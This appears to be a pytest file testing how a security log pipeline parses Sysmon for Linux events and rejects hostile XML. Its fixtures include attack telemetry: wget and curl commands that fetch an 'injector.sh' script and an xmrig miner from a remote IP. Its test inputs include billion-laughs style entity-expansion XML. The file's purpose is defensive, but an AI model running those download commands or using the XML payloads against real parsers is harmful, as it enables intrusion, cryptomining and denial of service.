"""Sysmon for Linux: real events (tests/ingest/parse/data/sysmon_linux.log, sources in its
header) through the ``sysmon_linux`` and ``auto`` parsers, and hostile XML."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from canhgac.models import DeadLetter

EventFields = Callable[..., dict[str, Any]]
DeadLetterOf = Callable[..., DeadLetter]

LINES = [
    line
    for line in (Path(__file__).parent / "data" / "sysmon_linux.log")
    .read_text(encoding="utf-8")
    .splitlines()
    if line and not line.startswith("#")
]
WGET, CURL, CURL_CONNECT, CURL_FILE, USERADD, CONNECT_NO_IMAGE = LINES


@pytest.mark.parametrize("parser", ["sysmon_linux", "auto"])
def test_process_creation(event_fields: EventFields, parser: str) -> None:
    fields = event_fields(WGET, parser)
    assert fields["event.dataset"] == "sysmon_linux.log"
    assert fields["event.module"] == "sysmon_linux"
    assert fields["event.code"] == "1"
    assert fields["event.kind"] == "event"
    assert fields["event.category"] == "process"
    assert fields["event.type"] == "start"
    assert fields["@timestamp"] == "2022-11-24T08:30:01.467399Z"
    assert fields["host.name"] == "ip-172-31-60-25"
    assert fields["process.executable"] == "/usr/bin/wget"
    assert fields["process.name"] == "wget"
    assert fields["process.command_line"] == "wget http://44.204.18.94:80/injector.sh"
    assert fields["process.pid"] == 3372
    assert fields["process.parent.pid"] == 3371
    assert fields["process.parent.executable"] == "/bin/bash"
    assert fields["process.parent.command_line"] == "/bin/bash"
    assert fields["process.working_directory"] == "/root"
    assert fields["user.name"] == "root"
    assert fields["process.parent.user.name"] == "root"
    assert fields["winlog.channel"] == "Linux-Sysmon/Operational"
    assert fields["winlog.event_data.LogonId"] == "0"
    assert fields["winlog.record_id"] == "75097"
    assert fields["winlog.process.pid"] == 1109  # Sysmon's own process, not the event's
    assert fields["log.syslog.appname"] == "sysmon"


def test_the_event_time_is_sysmons_not_the_syslog_header(event_fields: EventFields) -> None:
    # The header says Nov 18 with no year; TimeCreated is exact and UTC.
    assert event_fields(USERADD, "sysmon_linux")["@timestamp"] == "2022-11-18T14:33:22.281954Z"


def test_network_connection(event_fields: EventFields) -> None:
    fields = event_fields(CURL_CONNECT, "sysmon_linux")
    assert fields["event.category"] == "network"
    assert fields["event.type"] == ["connection", "start", "protocol"]
    assert fields["source.ip"] == "172.31.60.25"
    assert fields["source.port"] == 42234
    assert fields["destination.ip"] == "44.204.18.94"
    assert fields["destination.port"] == 80
    assert fields["network.transport"] == "tcp"
    assert fields["network.direction"] == "egress"
    assert fields["process.executable"] == "/usr/bin/curl"
    assert "destination.domain" not in fields  # Sysmon wrote "-"
    assert set(fields["related.ip"]) == {"172.31.60.25", "44.204.18.94"}


def test_network_connection_without_an_image(event_fields: EventFields) -> None:
    fields = event_fields(CONNECT_NO_IMAGE, "auto")
    assert fields["destination.port"] == 3307
    assert "process.executable" not in fields


def test_file_created(event_fields: EventFields) -> None:
    fields = event_fields(CURL_FILE, "sysmon_linux")
    assert fields["event.category"] == "file"
    assert fields["event.type"] == "creation"
    assert fields["file.path"] == "/opt/automation/xmrig"
    assert fields["file.name"] == "xmrig"


def test_a_stray_plus_before_a_created_path_is_dropped(event_fields: EventFields) -> None:
    line = CURL_FILE.replace("/opt/automation/xmrig", "+/usr/lib/systemd/system-generators/x")
    fields = event_fields(line, "sysmon_linux")
    assert fields["file.path"] == "/usr/lib/systemd/system-generators/x"
    assert fields["winlog.event_data.TargetFilename"].startswith("+/")


def test_bare_xml_without_syslog_header(event_fields: EventFields) -> None:
    xml = CURL[CURL.index("<Event>") :]
    for parser in ("sysmon_linux", "auto"):
        fields = event_fields(xml, parser)
        assert fields["process.command_line"].startswith("curl -s -O http://44.204.18.94")


def test_xml_escapes_and_vietnamese_text(event_fields: EventFields) -> None:
    line = WGET.replace(
        "wget http://44.204.18.94:80/injector.sh", "echo &quot;Hồ sơ&quot; &amp;&amp; id &lt; x"
    )
    assert event_fields(line, "sysmon_linux")["process.command_line"] == 'echo "Hồ sơ" && id < x'


@pytest.mark.parametrize(
    ("xml", "reason"),
    [
        # billion laughs: a DTD comes before <Event>, so it is never taken for an event
        (
            '<!DOCTYPE e [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><Event><System>'
            '<Provider Name="Linux-Sysmon"/><EventID>1</EventID></System></Event>',
            "no <Event>",
        ),
        # and any markup declaration inside one is refused before the XML parser sees it
        (
            '<Event><!DOCTYPE e [<!ENTITY a "aaaa">]><System><Provider Name="Linux-Sysmon"/>'
            "<EventID>1</EventID></System></Event>",
            "DTD",
        ),
        ('<Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID>', "well-formed"),
        ('<Event><System><Provider Name="Other"/><EventID>1</EventID></System></Event>', "Linux"),
        ("<Event><Other/></Event>", "System"),
        ("<Event>" + "<a>" * 2000, "tags"),
    ],
)
def test_hostile_or_foreign_xml_is_a_dead_letter(
    dead_letter: DeadLetterOf, xml: str, reason: str
) -> None:
    assert reason in dead_letter(xml, "sysmon_linux").reason


def test_auto_keeps_a_truncated_event_as_syslog(event_fields: EventFields) -> None:
    # rsyslog cuts messages at its maxMessageSize: the record is still the syslog line.
    fields = event_fields(WGET[:600], "auto")
    assert fields["event.dataset"] == "syslog"
    assert fields["process.name"] == "sysmon"


def test_a_syslog_line_without_sysmon_xml_is_refused(dead_letter: DeadLetterOf) -> None:
    assert "no <Event>" in dead_letter("Nov 24 08:30:01 web01 cron[5]: hi", "sysmon_linux").reason
